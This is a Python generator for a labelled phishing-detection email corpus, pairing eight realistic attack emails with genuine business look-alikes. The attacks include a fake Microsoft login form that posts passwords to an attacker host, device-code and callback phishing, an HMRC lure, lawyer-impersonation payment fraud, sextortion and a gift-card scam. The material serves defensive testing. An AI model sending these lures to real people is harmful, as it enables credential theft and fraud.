"""English messages: attacks 09-16, business 09-16."""
import infra
from infra import R
from common import (attack, business, T, H, ALT, MIXED, RELATED, ATT, addr,
                    subj, utc, Ctx, build, S, BANK, TAX, esc, ohtml,
                    paras_html, office_ip, rfcdate)
import ids
from docs import invoice_pdf, chart_png

BRACKLEY_TENANT = "9a41c7e2-3b58-4d0f-b6e1-72c8d5a0f413"
TOM_SIG = """Tom Hale
Head of Supply Chain
Brackley Fresh Foods Ltd
Tower Close, Brackley, NN13 7EB
T +44 1280 704 512 | M +44 7700 900 418"""


def who(k):
    return addr(S[k]["name"], S[k]["addr"])


def gmail_html(text):
    return '<div dir="ltr">' + paras_html(text).replace("\n", "") + "</div>\n"


# ======================================================================
# ATTACKS
# ======================================================================

@attack("en", "docusign-lookalike-html-login-attachment",
        "Fake DocuSign envelope 'Storage Agreement 2027 – Schedule of Rates' from 'Brackley Fresh Foods via DocuSign' with an HTML attachment that renders a Microsoft sign-in page pre-filled with the recipient's address",
        "Not DocuSign infrastructure (Amazon SES, sender domain esign-docsecure.com); DocuSign never attaches HTML files; the attachment is a credential form posting to brackley-docs-review.azurewebsites.net (abused Azure App Service). Hard negative: business/09 (real DocuSign envelope for the same agreement the next day).")
def a09():
    t = utc(2026, 10, 21, 15, 26, 40, "UK")
    ctx = Ctx("a09", t, S["whitfield"]["addr"])
    snd = "dse-notification@esign-docsecure.com"
    r = infra.ses(ctx, snd)
    text = """Brackley Fresh Foods Ltd sent you a document to review and sign.

Tom Hale
tom.hale@brackleyfresh.co.uk

James,
Please review and sign the updated storage agreement and schedule of rates for 2027 by Friday.

Due to your organisation's security settings, the document has been attached as a secure HTML viewer. Open the attachment and sign in with your work account to review and sign.

Do Not Share This Email
This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.

About DocuSign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#eaeaea">
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eaeaea"><tr><td align="center" style="padding:20px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:20px 24px;font-size:22px;color:#333"><b>Docu</b><span style="color:#ffcc22">Sign</span></td></tr>
<tr><td style="background:#1e4ca1;color:#fff;padding:28px 24px;text-align:center;font-size:16px">
<p style="margin:0 0 14px 0">Brackley Fresh Foods Ltd sent you a document to review and sign.</p>
<p style="margin:0;font-size:13px">&#128206; Storage_Agreement_2027_Schedule_of_Rates.html (attached)</p></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:22px">
<p><b>Tom Hale</b><br><a href="mailto:tom.hale@brackleyfresh.co.uk" style="color:#2463d1">tom.hale@brackleyfresh.co.uk</a></p>
<p>James,<br>Please review and sign the updated storage agreement and schedule of rates for 2027 by Friday.</p>
<p>Due to your organisation's security settings, the document has been attached as a secure HTML viewer. Open the attachment and sign in with your work account to review and sign.</p>
</td></tr>
<tr><td style="padding:16px 24px;background:#f4f4f4;font-size:11px;color:#666">
<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
<b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table></body></html>
"""
    login = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sign in to your account</title>
<style>body{margin:0;background:#f2f2f2;font-family:'Segoe UI',Arial,sans-serif}
.c{width:440px;margin:90px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px}
input{width:100%;border:none;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:none;padding:8px 32px;font-size:15px;float:right}</style></head>
<body><div class="c">
<div style="font-size:20px;font-weight:600">Microsoft</div>
<p style="font-size:13px;color:#444">Brackley Fresh Foods Ltd &ndash; Storage_Agreement_2027_Schedule_of_Rates.pdf<br>Sign in to view the document shared with you via DocuSign.</p>
<form method="post" action="https://brackley-docs-review.azurewebsites.net/api/v2/session">
<input type="email" name="login" value="james.whitfield@example.com" readonly>
<input type="password" name="passwd" placeholder="Password" autofocus>
<input type="hidden" name="env" value="DS-7Q4K-2027-RATES">
<p style="font-size:13px"><a href="#" style="color:#0067b8">Forgot my password</a></p>
<button type="submit">Sign in</button></form><div style="clear:both"></div></div></body></html>
"""
    body = MIXED(r, ALT(r, T(text, "UTF-8", "quoted-printable"), H(html, "UTF-8", "quoted-printable")),
                 ATT(login.encode("utf-8"), "text/html", "Storage_Agreement_2027_Schedule_of_Rates.html"))
    return build(ctx, r, {
        "From": addr("Brackley Fresh Foods Ltd via DocuSign", snd),
        "To": addr("James Whitfield", S["whitfield"]["addr"]),
        "Reply-To": "tom.hale@brackleyfresh.co.uk",
        "Subject": "Brackley Fresh Foods Ltd sent you a document to review and sign: Storage Agreement 2027 - Schedule of Rates",
    }, body)


@attack("en", "device-code-teams-lookalike-customer",
        "Device-code phishing: 'Tom Hale' from look-alike brackleyfreshfoods.co.uk invites to a 'secure Teams session' that requires entering a code at microsoft.com/devicelogin",
        "Look-alike of the customer's domain (real: brackleyfresh.co.uk) sent from an attacker Microsoft 365 tenant; the only link is Microsoft's genuine device-login page, and the 'meeting code' is an OAuth device code generated by the attacker - entering it grants the attacker tokens for the victim's account (Storm-2372 style). Hard negatives: business/11, business/12.")
def a10():
    t = utc(2026, 11, 10, 10, 4, 11, "UK")
    ctx = Ctx("a10", t, S["whitfield"]["addr"])
    snd = "tom.hale@brackleyfreshfoods.co.uk"
    r = infra.m365(ctx, snd, "gbr", lang="en-GB", accept="en-GB, en-US",
                   topic="Teams: temperature excursion review & Q1 2027 volumes")
    text = """Hi James,

Following last week's excursion on the chilled ready-meal loads, our QA team would like to go through the data logger exports with you before we sign off the Q1 2027 volume forecast.

Because we will be sharing customer and retailer data, our IT has set the call up as a secure Teams session. To join:

1. Go to https://microsoft.com/devicelogin
2. Enter the meeting code: HJ9MFX4QK
3. Sign in with your Example Group account

The code is only valid for 15 minutes, so please join at 10:30 sharp. Sarah Collins and our QA manager will also dial in.

Thanks,

""" + TOM_SIG.replace("brackley", "brackley")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>
<body><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt;color:#000">
<p>Hi James,</p>
<p>Following last week's excursion on the chilled ready-meal loads, our QA team would like to go through the data logger exports with you before we sign off the Q1 2027 volume forecast.</p>
<p>Because we will be sharing customer and retailer data, our IT has set the call up as a secure Teams session.</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #d1d1d1;width:480px"><tr><td style="padding:18px 22px;font-family:Segoe UI,Arial">
<div style="font-size:20px;color:#242424;font-weight:600">Microsoft Teams <span style="font-size:13px;color:#616161;font-weight:normal">secure meeting</span></div>
<p style="font-size:14px;color:#242424">1. Go to <a href="https://microsoft.com/devicelogin" style="color:#5b5fc7">https://microsoft.com/devicelogin</a><br>
2. Enter the meeting code: <b style="font-size:17px;letter-spacing:2px">HJ9MFX4QK</b><br>
3. Sign in with your Example Group account</p>
<p style="font-size:12px;color:#616161">The code is valid for 15 minutes. Meeting ID: 381 447 902 116</p></td></tr></table>
<p>Please join at 10:30 sharp. Sarah Collins and our QA manager will also dial in.</p>
<p>Thanks,</p>
<p>%s</p></div></body></html>
""" % "<br>".join(esc(x) for x in TOM_SIG.split("\n"))
    body = ALT(r, T(text, "us-ascii", "quoted-printable"), H(html, "us-ascii", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Tom Hale", snd), "To": addr("James Whitfield", S["whitfield"]["addr"]),
        "Subject": "Teams: temperature excursion review & Q1 2027 volumes",
    }, body)


@attack("en", "callback-phishing-fake-m365-renewal",
        "Callback phishing (TOAD): Gmail 'Microsoft Store billing' confirms a £1,498.75 Microsoft 365 renewal for 25 users; PDF invoice says to call a 'billing support' number within 24 h to cancel",
        "Free-mail sender impersonating Microsoft, an unexpected charge and a phone number as the only call to action - no link to scan. The call leads to a fake support agent who installs remote-access software or takes card details.")
def a11():
    t = utc(2026, 11, 12, 16, 40, 5, "UK")
    ctx = Ctx("a11", t, S["shah"]["addr"])
    snd = "msbilling.dept.4471@gmail.com"
    r = infra.gmail(ctx, snd, zone="UK")
    text = """Dear Customer,

Thank you for your order. Your subscription has been renewed and the amount has been charged to the payment method on file.

Order number: MSB-77419-2611
Product: Microsoft 365 Business Premium - annual (25 users)
Amount: GBP 1,498.75

Please find your invoice attached.

If you did not authorise this renewal, please contact our Billing Support within 24 hours to cancel and receive a full refund: +44 20 7946 0843 (Mon-Sat, 8am-8pm).

Regards,
Billing Department
Microsoft Store Services
"""
    pdfb = invoice_pdf(
        ["Microsoft Store Services – Billing", "Order confirmation / VAT invoice · Billing Support +44 20 7946 0843"],
        ["Priya Shah", "Example Group UK Ltd", "priya.shah@examplegroup.eu"],
        "Invoice MSB-77419-2611",
        [("Invoice date", "12 Nov 2026"), ("Order no.", "MSB-77419-2611"), ("Payment", "Card ending 4471"), ("Status", "PAID – auto-renewal")],
        [("Item", 56, "l"), ("Qty", 360, "r"), ("Unit price", 450, "r"), ("Total", 539, "r")],
        [("Microsoft 365 Business Premium (annual)", "25", "£49.96", "£1,249.00"),
         ("Defender for Business add-on", "1", "£0.00", "£0.00")],
        [("Subtotal", "£1,249.00"), ("VAT 20%", "£249.75"), ("Total charged", "£1,498.75")],
        ["This amount has been charged automatically. To cancel the renewal and receive a refund, call Billing Support on +44 20 7946 0843 within 24 hours of this invoice.",
         "Refunds are only possible by phone. Have your order number ready."],
        ["Microsoft Store Services · Billing Department"],
        dict(title="Invoice MSB-77419-2611", author="Billing", creator="Microsoft Word",
             producer="Microsoft: Print To PDF", date=(2026, 11, 12, 16, 31, 50), tz="Z"))
    body = MIXED(r, ALT(r, T(text, "UTF-8", "7bit"), H(gmail_html(text), "UTF-8", "7bit")),
                 ATT(pdfb, "application/pdf", "Invoice_MSB-77419-2611.pdf"))
    return build(ctx, r, {
        "From": addr("Microsoft Store Billing", snd), "To": S["shah"]["addr"],
        "Subject": "Order Confirmation #MSB-77419-2611 - Microsoft 365 Business Premium",
    }, body)


@attack("en", "hmrc-vat-repayment-compromised-site",
        "HMRC credential/bank-detail phishing: 'VAT repayment of £3,418.62' – confirm via Government Gateway; sent by PHPMailer from a hacked garden-centre WordPress site",
        "Sender is wordpress@stanwaygardencentre.co.uk on shared cPanel hosting (X-AntiAbuse / PHPMailer headers) with display name 'HMRC'; link to a path under /wp-content/uploads/ of that site; HMRC never e-mails refund links. Harvests Government Gateway credentials and bank details. Hard negative: business/14.")
def a12():
    t = utc(2026, 10, 26, 8, 12, 44, "UK")
    ctx = Ctx("a12", t, S["shah"]["addr"])
    snd = "wordpress@stanwaygardencentre.co.uk"
    r = infra.phpmailer_cpanel(ctx, snd, "cp17.ukserverhost.net", "185.211.22.47", "91.92.241.103",
                               "stanwaygardencentre.co.uk")
    url = "https://stanwaygardencentre.co.uk/wp-content/uploads/2024/07/gov/hmrc/repayment/index.php?ref=XV447126098&c=" + ctx.hex(16)
    text = """HM Revenue & Customs

VAT repayment notification
Reference: XV 4471 2609 8

Dear Customer,

Following a review of your VAT return for the period 07/26 we have identified an overpayment of £3,418.62. To release the repayment to your business bank account you must confirm your details through the Government Gateway within 5 working days.

Confirm repayment details: %s

If you do not confirm, the repayment will be held and your next return may be subject to a compliance check.

HM Revenue & Customs
This is an automated message. Please do not reply.
""" % url
    html = """<html><head><meta charset="UTF-8"></head><body style="margin:0;font-family:Arial,sans-serif;color:#0b0c0c">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:12px 20px;color:#fff;font-size:22px;font-weight:bold">&#x1F451; GOV.UK</td></tr>
<tr><td style="padding:10px 20px;border-bottom:8px solid #1d70b8;font-size:17px">HM Revenue &amp; Customs</td></tr>
<tr><td style="padding:20px;font-size:17px;line-height:25px;max-width:600px">
<h1 style="font-size:28px">VAT repayment notification</h1>
<p>Reference: <b>XV 4471 2609 8</b></p>
<p>Dear Customer,</p>
<p>Following a review of your VAT return for the period 07/26 we have identified an overpayment of <b>&pound;3,418.62</b>. To release the repayment to your business bank account you must confirm your details through the Government Gateway within 5 working days.</p>
<p><a href="%s" style="background:#00703c;color:#fff;padding:10px 16px;text-decoration:none;font-weight:bold;display:inline-block">Confirm repayment details</a></p>
<p>If you do not confirm, the repayment will be held and your next return may be subject to a compliance check.</p>
<p style="font-size:14px;color:#505a5f">HM Revenue &amp; Customs<br>This is an automated message. Please do not reply.</p>
</td></tr></table></body></html>
""" % esc(url)
    body = ALT(r, T(text, "UTF-8", "quoted-printable", style="bare"), H(html, "UTF-8", "quoted-printable", style="bare"))
    return build(ctx, r, {
        "From": addr("HMRC", snd), "To": S["shah"]["addr"],
        "Reply-To": "noreply@stanwaygardencentre.co.uk",
        "Subject": "VAT repayment notification - reference XV 4471 2609 8 - action required",
    }, body)


@attack("en", "fake-lawyer-confidential-settlement",
        "Fake-lawyer BEC: 'Jonathan Mercer, Harrington Cole LLP' contacts the UK accountant about a confidential matter 'authorised by Dr Köhler', asks for available balance and readiness for a same-day CHAPS payment of £84,750",
        "Newly registered domain harringtoncole-legal.com on an OVH VPS, no prior relationship, secrecy/NDA, bypasses the CFO and local manager, asks for account balance and urgent payment - textbook lawyer-impersonation fraud that usually follows up with a fake CEO mail.")
def a13():
    t = utc(2026, 11, 25, 14, 18, 3, "UK")
    ctx = Ctx("a13", t, S["shah"]["addr"])
    snd = "j.mercer@harringtoncole-legal.com"
    r = infra.vps_direct(ctx, snd, "mail.harringtoncole-legal.com", "vps-4f2a91c3.vps.ovh.net", "51.38.112.47",
                         mua="tb", zone="UK", lang="en-GB", sub_from="[10.8.0.6] (unknown [91.196.220.28])")
    r["auto"]["User-Agent"] = "Mozilla Thunderbird"
    text = """Dear Ms Shah,

I act for Example Group in a confidential regulatory matter that Dr Jürgen Köhler has asked me to coordinate with the UK entity directly. Dr Köhler will confirm this to you separately by email.

Because of the nature of the matter, the information is subject to a non-disclosure agreement and must not be discussed with colleagues, including Mr Whitfield, until the matter is closed. I would be grateful for your discretion.

In order to prepare the settlement documents I need two things from you today:

1. The currently available balance on Example Group UK Ltd's operating account with Barclays.
2. Confirmation that you are able to release a same-day CHAPS payment of GBP 84,750.00 this afternoon, once I send you the settlement account details.

Please reply to this email only. I am in meetings until 4pm but will respond to emails immediately.

Kind regards,

Jonathan Mercer
Partner
Harrington Cole LLP
88 Chancery Lane, London WC2A 1DD

This email and any attachments are confidential and may be legally privileged. If you have received it in error, please notify the sender and delete it.
""".replace("Jürgen", "Juergen").replace("Köhler", "Koehler")
    body = T(text, "UTF-8", "7bit", style="bare", fmt="flowed")
    return build(ctx, r, {
        "From": addr("Jonathan Mercer", snd), "To": addr("Priya Shah", S["shah"]["addr"]),
        "Subject": "Confidential - Project Meridian - Example Group UK",
        "Content-Language": "en-GB",
    }, body)


@attack("en", "sharepoint-onenote-from-compromised-tenant",
        "Abused genuine SharePoint Online: notification 'Gary Pritchard shared \"Remittance Advice – Example Group – Nov 2026\"' from a compromised UK haulier's tenant; link is a OneNote notebook (/:o:/) on their SharePoint",
        "Genuine Microsoft infrastructure and sender no-reply@sharepointonline.com, but: unknown correspondent (Midlands Chilled Haulage, never used), a 'remittance' shared as a OneNote notebook rather than a PDF/XLSX - the usual staging page that links on to an AiTM login; generic text. Hard negative: business/12 (expected spreadsheet share from a real customer).")
def a14():
    t = utc(2026, 11, 26, 16, 2, 57, "UK")
    ctx = Ctx("a14", t, S["shah"]["addr"])
    snd = "no-reply@sharepointonline.com"
    r = infra.m365(ctx, snd, "gbr", lang="en-US", accept="en-US")
    for k in ("Thread-Topic", "Thread-Index", "Accept-Language", "X-MS-Has-Attach", "X-MS-TNEF-Correlator"):
        r["auto"].pop(k, None)
    r["auto"]["Message-ID"] = "<%s@odspnotify>" % ctx.uuid()
    r["auto"]["X-Sharing-Activity-Id"] = ctx.uuid()
    link = "https://midlandschilled-my.sharepoint.com/:o:/g/personal/gary_pritchard_midlandschilled_co_uk/EsKq3vT1mXxJg7" + ctx.alnum(26) + "?e=" + ctx.alnum(6)
    item = "Remittance Advice – Example Group – Nov 2026"
    text = """Gary Pritchard shared a file with you

Please see the remittance advice for your attention.

%s
Open: %s

This link will work for anyone.

Privacy Statement
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % (item, link)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table role="presentation" width="100%%" style="font-family:'Segoe UI',Helvetica,Arial,sans-serif;background:#fff"><tr><td align="center">
<table role="presentation" width="580"><tr><td style="padding:24px 0 12px 0;font-size:24px;color:#323130">Gary Pritchard shared a file with you</td></tr>
<tr><td style="padding:0 0 16px 0;font-size:14px;color:#323130">Please see the remittance advice for your attention.</td></tr>
<tr><td style="border:1px solid #e1dfdd;padding:16px"><table><tr><td style="width:40px;font-size:26px;color:#7719aa">&#9636;</td>
<td style="font-size:16px;color:#323130">%s</td></tr></table></td></tr>
<tr><td style="padding:16px 0"><a href="%s" style="background:#0078d4;color:#fff;padding:8px 20px;font-size:14px;text-decoration:none;border-radius:2px">Open</a></td></tr>
<tr><td style="font-size:12px;color:#605e5c">This link will work for anyone.</td></tr>
<tr><td style="padding:30px 0 0 0;font-size:12px;color:#605e5c"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
""" % (esc(item), esc(link))
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Gary Pritchard", snd), "To": S["shah"]["addr"],
        "Reply-To": addr("Gary Pritchard", "gary.pritchard@midlandschilled.co.uk"),
        "Subject": subj('Gary Pritchard shared "%s" with you' % item, "utf-8", "B"),
    }, body)


@attack("en", "sextortion-spoofed-self-bitcoin",
        "Extortion / sextortion: mail 'from' the recipient's own address claims her device was hacked and demands USD 1,450 in Bitcoin within 48 h",
        "Header From = recipient (spoofed; own domain arriving from outside via a compromised Vietnamese host), direct-to-MX without relay hops, fake Outlook Express X-Mailer, threat and deadline, payment to a bech32 Bitcoin address (checksum-valid).")
def a15():
    t = utc(2026, 12, 5, 3, 17, 26, "UK")
    ctx = Ctx("a15", t, S["shah"]["addr"])
    snd = S["shah"]["addr"]
    btc = ids.btc_p2wpkh("a15-extortion-wallet")
    assert ids.bech32_verify(btc)
    r = infra.simple(ctx, snd, ("[113.160.224.35]", "static.vnpt.vn", "113.160.224.35", None), [],
                     {"Date": rfcdate(ctx.t, "BR"), "Message-ID": "<%s.%s@examplegroup.eu>" % (ctx.hex(8, True), ctx.digits(7)),
                      "MIME-Version": "1.0", "X-Mailer": "Microsoft Outlook Express 6.00.2900.5512",
                      "X-Priority": "3", "X-MSMail-Priority": "Normal"},
                     ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "__BODY__", "X-Priority", "X-MSMail-Priority", "X-Mailer"],
                     lambda *a: "----=_NextPart_000_0012_" + ctx.hex(8, True))
    text = """Hello!

I have to share bad news with you. A few months ago I gained access to the devices you use to browse the internet and read your email, including this mailbox {rcpt}. As you can see, I sent this message from your own account.

Since then I have been monitoring your online activity. I have recordings from your camera and copies of your contacts, chats and browsing history, including the websites you would not want your colleagues or family to know about.

I am ready to delete everything, but only in exchange for USD 1450 in Bitcoin. Send the exact amount to my wallet:

{btc}

If you do not know how to buy Bitcoin, search for "buy bitcoin" - it takes 10 minutes.

You have 48 hours from the moment you open this email. I will know when you have read it. If I do not receive the payment, the recordings will be sent to all your contacts and published.

Do not reply to this email and do not contact the police or IT - I will notice and publish everything immediately.
""".format(rcpt=S["shah"]["addr"], btc=btc)
    body = T(text, "us-ascii", "7bit")
    return build(ctx, r, {
        "From": S["shah"]["addr"], "To": S["shah"]["addr"],
        "Subject": "Payment pending: your account " + S["shah"]["addr"] + " has been compromised",
    }, body)


@attack("en", "gift-cards-manager-impersonation",
        "Gift-card scam: 'James Whitfield' (UK office manager) from a Gmail address asks the UK accountant to buy 12 × £100 Amazon gift cards for the night shift and e-mail the codes by 2 pm",
        "Free-mail address mimicking the manager, 'can't take calls', urgency and secrecy (surprise), gift cards with codes to be photographed and e-mailed - classic gift-card fraud.")
def a16():
    t = utc(2026, 12, 11, 11, 48, 16, "UK")
    ctx = Ctx("a16", t, S["shah"]["addr"])
    snd = "james.whitfield.examplegroup@gmail.com"
    r = infra.gmail(ctx, snd, zone="UK")
    text = """Hi Priya,

Are you at your desk? I need a quick favour.

I want to surprise the night-shift drivers and the warehouse team with a Christmas thank-you before the party tonight - 12 Amazon gift cards at £100 each. I'm stuck in back-to-back meetings with Brackley all day and can't take calls.

Could you pick them up (Tesco or Sainsbury's have them), scratch the backs and email me clear photos of the codes by 2pm? Please keep it between us for now, I want it to be a surprise.

I'll make sure you're reimbursed through expenses today.

Thanks,
James
"""
    body = ALT(r, T(text, "UTF-8", "quoted-printable"), H(gmail_html(text), "UTF-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("James Whitfield", snd), "To": S["shah"]["addr"],
        "Subject": "Quick favour",
    }, body)


# ======================================================================
# BUSINESS
# ======================================================================

@business("en", "docusign-envelope-storage-agreement",
          "Genuine DocuSign envelope from Brackley Fresh Foods: 'Complete with Docusign: Brackley_ExampleGroup_Storage_Agreement_2027.pdf'",
          "Sent by DocuSign's EU platform (dse@eumail.docusign.net, DocuSign's own servers), link to eu.docusign.net with an access code, Reply-To the real customer contact, no attachment, matches an expected contract.",
          hn=["docusign-lookalike-html-login-attachment"])
def b09():
    t = utc(2026, 10, 22, 11, 5, 31, "UK")
    ctx = Ctx("b09", t, S["whitfield"]["addr"])
    snd = "dse@eumail.docusign.net"
    n = ctx.rng.randint(1, 4)
    r = infra.simple(ctx, "bounces+%s@eumail.docusign.net" % ctx.hex(16), ("mailfr%d.eumail.docusign.net" % n, "mailfr%d.eumail.docusign.net" % n, "185.80.243.%d" % (20 + n), "1.2"),
                     [("Received", R("from docusign.net (%s) by mailfr%d.eumail.docusign.net" % ("10.%d.%d.%d" % (ctx.rng.randint(1, 200), ctx.rng.randint(1, 200), ctx.rng.randint(1, 200)), n),
                                     "(PowerMTA(TM) v5.0r7) id h%s for <%s>; %s" % (ctx.alnum(10, "abcdefghijklmnopqrstuvwxyz0123456789"), ctx.rcpt, rfcdate(ctx.at(1), "ET"))))],
                     {"Date": rfcdate(ctx.t, "ET"), "Message-ID": "<%s@eumail.docusign.net>" % ctx.hex(32),
                      "MIME-Version": "1.0", "X-API-Host": "docusign.net", "X-Api-Host": None},
                     ["Reply-To", "From", "To", "Date", "Subject", "Message-ID", "MIME-Version", "__BODY__", "X-API-Host"],
                     lambda *a: "----=_NextPart_%s" % ctx.uuid())
    env = ctx.uuid().upper()
    code = ctx.hex(32, True)[:32]
    link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (ctx.uuid(), ctx.uuid(), ctx.uuid())
    text = """Tom Hale sent you a document to review and sign.

REVIEW DOCUMENT
%s

Tom Hale
tom.hale@brackleyfresh.co.uk

James,

As discussed - here is the 2027 storage agreement with the revised schedule of rates (chilled and frozen pallet positions, handling, blast freezing). Sarah has already initialled on our side; once you've signed it goes to your MD.

Thanks,
Tom

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

This message was sent to you by Tom Hale who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.
""" % (link, code)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="padding:0;margin:0;background:#eaeaea">
<table style="width:100%%;background:#eaeaea" role="presentation"><tr><td align="center" style="padding:24px 0">
<table style="width:640px;background:#ffffff;font-family:Helvetica,Arial,sans-serif" role="presentation">
<tr><td style="padding:10px 24px"><img src="https://eu.docusign.net/Member/Images/email/docusignlogo.png" alt="Docusign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table role="presentation" style="width:100%%;background:#1e4ca1;color:#ffffff"><tr><td style="padding:28px;text-align:center;font-size:16px">
<p>Tom Hale sent you a document to review and sign.</p>
<a href="%s" style="display:inline-block;background:#ffc423;color:#333333;font-size:15px;font-weight:bold;padding:10px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333;line-height:20px"><b>Tom Hale</b><br><a href="mailto:tom.hale@brackleyfresh.co.uk" style="color:#2463d1">tom.hale@brackleyfresh.co.uk</a><br><br>
James,<br><br>As discussed - here is the 2027 storage agreement with the revised schedule of rates (chilled and frozen pallet positions, handling, blast freezing). Sarah has already initialled on our side; once you've signed it goes to your MD.<br><br>Thanks,<br>Tom</td></tr>
<tr><td style="padding:0 24px 12px 24px;background:#eaeaea;font-size:11px;color:#666;line-height:16px"><br><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: %s<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
This message was sent to you by Tom Hale who is using the Docusign Electronic Signature Service.</td></tr>
</table></td></tr></table></body></html>
""" % (esc(link), code)
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Tom Hale via Docusign", snd), "To": addr("James Whitfield", S["whitfield"]["addr"]),
        "Reply-To": addr("Tom Hale", "tom.hale@brackleyfresh.co.uk"),
        "Subject": "Complete with Docusign: Brackley_ExampleGroup_Storage_Agreement_2027.pdf",
        "X-Api-Host": None,
    }, body)


@business("en", "microsoft-account-password-reset-code",
          "Genuine Microsoft account security code for a password reset the IT admin requested himself (consumer Microsoft account registered with his work address)",
          "From account-security-noreply@accountprotection.microsoft.com via Microsoft's own Exchange Online infrastructure; contains only a one-time code and a link to account.live.com; no login form.",
          hn=["quishing-m365-authenticator", "device-code-teams-lookalike-customer"])
def b10():
    t = utc(2026, 11, 14, 10, 21, 5, "UK")
    ctx = Ctx("b10", t, S["petersen"]["addr"])
    snd = "account-security-noreply@accountprotection.microsoft.com"
    r = infra.m365(ctx, snd, "nam", lang="en-US", accept="en-US", cross_tenant=False)
    for k in ("Thread-Topic", "Thread-Index", "Accept-Language", "Content-Language", "X-MS-Has-Attach", "X-MS-TNEF-Correlator"):
        r["auto"].pop(k, None)
    r["auto"]["Message-ID"] = "<%s@az.westus2.microsoft.com>" % ctx.uuid().upper()
    r["auto"]["X-MSAPipeline"] = "MessageDispatcherEOP"
    code = "482913"
    text = """Microsoft account

Password reset code

Please use this code to reset the password for the Microsoft account ja*****@example.com.

Here is your code: %s

If you don't recognize the Microsoft account ja*****@example.com, you can click https://account.live.com/dp?ft=%s to remove your email address from that account.

Thanks,
The Microsoft account team
""" % (code, ctx.alnum(90, infra.B62 + "!*"))
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec">Password reset code</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Please use this code to reset the password for the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:ja*****@example.com">ja*****@example.com</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Here is your code: <span style="font-family:'Segoe UI Bold','Segoe UI Semibold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:14px;font-weight:bold;color:#2a2a2a">%s</span></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Thanks,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">The Microsoft account team</td></tr></table></body></html>
""" % code
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Microsoft account team", snd), "To": S["petersen"]["addr"],
        "Subject": "Microsoft account password reset",
    }, body)


@business("en", "customer-complaint-temperature-excursion",
          "Angry customer complaint from Brackley Fresh Foods: delivery rejected at a retailer DC for 9.4 °C, reefer unit off for 47 min, demands logger export and root cause by 2 pm, charge-back £11,860.40; logger chart PNG attached",
          "Known customer, real domain and its own Microsoft 365 tenant (same tenant as business/12), operational detail consistent with the trade, urgency without any payment-route change, credential request or link.",
          hn=["device-code-teams-lookalike-customer"])
